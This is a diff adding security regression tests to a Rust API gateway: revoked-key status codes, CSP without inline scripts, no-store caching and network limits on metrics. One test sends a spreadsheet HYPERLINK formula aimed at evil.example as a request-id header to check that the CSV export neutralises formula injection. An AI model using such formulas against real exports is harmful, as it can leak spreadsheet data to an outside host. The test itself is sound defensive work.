@@ -276,9 +276,10 @@ async fn an_account_from_creation_to_a_refused_key() {
     assert_eq!(r.status, 200);
     let r = gw.post_json("/v1/embeddings", &secret, &embed).await;
     assert_eq!(
-        r.status, 403,
-        "a revoked key is refused at once on this replica"
+        r.status, 401,
+        "a revoked key is refused at once on this replica, as a key that no longer exists"
     );
+    assert_eq!(r.json()["error"]["code"], "invalid_api_key");
 
     // Rotation: the new key works with the old one's label; the old one is refused.
     let r = admin
@@ -300,7 +301,7 @@ async fn an_account_from_creation_to_a_refused_key() {
         gw.post_json("/v1/embeddings", &first_key, &embed)
             .await
             .status,
-        403
+        401
     );
 
     // Disabled, every key of the account is refused.
@@ -404,6 +405,55 @@ async fn usage_csv_is_streamed_and_summaries_group() {
     let lines: Vec<&str> = text.lines().collect();
     assert_eq!(lines.len(), 4, "{text}");
     assert!(lines[0].starts_with("time,kind,account"));
+
+    // Issue 22 item 3: a client that chooses its X-Request-Id to be a spreadsheet formula gets
+    // the gateway's own id instead, and nothing in the export starts a formula.
+    let formula = r#"=HYPERLINK("https://evil.example/?k="&C2,"open")"#;
+    let (evil, evil_key) = gw.account("1").await;
+    let reply = gw
+        .request(
+            "POST",
+            "/v1/embeddings",
+            &[
+                ("authorization", &format!("Bearer {evil_key}")),
+                ("content-type", "application/json"),
+                ("x-request-id", formula),
+            ],
+            serde_json::to_vec(&json!({"model": "text-embedding-3-small", "input": "x"})).unwrap(),
+        )
+        .await;
+    assert_eq!(reply.status, 200);
+    let id_used = reply.headers["x-request-id"].to_str().unwrap().to_owned();
+    assert!(id_used.starts_with("req_"), "{id_used}");
+    let kept = gw
+        .request(
+            "POST",
+            "/v1/embeddings",
+            &[
+                ("authorization", &format!("Bearer {evil_key}")),
+                ("content-type", "application/json"),
+                ("x-request-id", "trace-01:a.b_c"),
+            ],
+            serde_json::to_vec(&json!({"model": "text-embedding-3-small", "input": "y"})).unwrap(),
+        )
+        .await;
+    assert_eq!(kept.headers["x-request-id"], "trace-01:a.b_c");
+    gw.settled(&evil).await;
+    let r = admin
+        .call("GET", &format!("/admin/v1/usage.csv?account={evil}"), None)
+        .await;
+    let text = String::from_utf8(r.body.to_vec()).unwrap();
+    assert!(
+        text.contains(&id_used) && text.contains("trace-01:a.b_c"),
+        "{text}"
+    );
+    for cell in text.lines().skip(1).flat_map(|l| l.split(',')) {
+        let cell = cell.trim_start_matches('"');
+        assert!(
+            !cell.starts_with(['=', '+', '@', '\t', '\r']),
+            "a formula in the export: {cell:?} in {text}"
+        );
+    }
     let r = admin
         .call(
             "GET",
@@ -600,12 +650,51 @@ async fn unknown_admin_routes_and_bad_bodies() {
     assert_eq!(r.json()["openapi"], "3.1.0");
     let r = gw.request("GET", "/console", &[], "").await;
     assert_eq!(r.status, 200);
+    let csp = r.headers["content-security-policy"].to_str().unwrap();
+    assert!(csp.contains("default-src 'self'"), "{csp}");
+    // Issue 22 item 5: scripts only from the gateway's own files, never inline.
+    assert!(csp.contains("script-src 'self';"), "{csp}");
+    assert!(!csp.contains("script-src 'self' 'unsafe-inline'"), "{csp}");
+    let page = String::from_utf8_lossy(&r.body).into_owned();
+    assert!(page.contains(r#"<script src="/console/console.js" defer></script>"#));
+    assert!(!page.contains("<script>"), "no inline script left");
+    let script = gw.request("GET", "/console/console.js", &[], "").await;
+    assert_eq!(script.status, 200);
     assert!(
-        r.headers["content-security-policy"]
+        script.headers["content-type"]
             .to_str()
             .unwrap()
-            .contains("default-src 'self'")
+            .starts_with("text/javascript")
     );
+    assert!(String::from_utf8_lossy(&script.body).contains("const API = \"/admin/v1\""));
+    gw.stop().await;
+}
+
+/// Issue 22 item 5: every answer of the operator's side — a new account's key, a refusal, the
+/// console — says `Cache-Control: no-store`.
+#[tokio::test]
+async fn the_operators_side_is_never_cached() {
+    let gw = TestGateway::start().await;
+    let admin = admin(&gw, false).await;
+    let created = admin
+        .call(
+            "POST",
+            "/admin/v1/accounts",
+            Some(json!({"name": format!("nostore-{}", common::unique()), "balance": "1"})),
+        )
+        .await;
+    assert_eq!(created.status, 201);
+    assert!(created.json()["key"]["secret"].is_string());
+    let refused = gw.request("GET", "/admin/v1/accounts", &[], "").await;
+    assert_eq!(refused.status, 401);
+    for r in [
+        &created,
+        &refused,
+        &gw.request("GET", "/console", &[], "").await,
+        &gw.request("GET", "/console/console.js", &[], "").await,
+    ] {
+        assert_eq!(r.headers["cache-control"], "no-store", "{:?}", r.headers);
+    }
     gw.stop().await;
 }
 
@@ -651,6 +740,14 @@ async fn admin_networks_keep_the_operators_side_to_its_networks() {
     assert_eq!(r.status, 403);
     assert_eq!(r.json()["error"]["code"], "network_not_allowed");
     assert_eq!(gw.request("GET", "/console", &[], "").await.status, 403);
+    // Issue 22 item 7: nor are what the gateway counts and how it is built.
+    for path in ["/metrics", "/openapi.json"] {
+        let r = gw.request("GET", path, &[], "").await;
+        assert_eq!(r.status, 403, "{path}");
+        assert_eq!(r.json()["error"]["code"], "network_not_allowed", "{path}");
+    }
+    // Health checks are.
+    assert_eq!(gw.request("GET", "/healthz", &[], "").await.status, 200);
     // Client routes are not affected.
     let (_, key) = gw.account("1").await;
     let body = json!({"model": "text-embedding-3-small", "input": "x"});
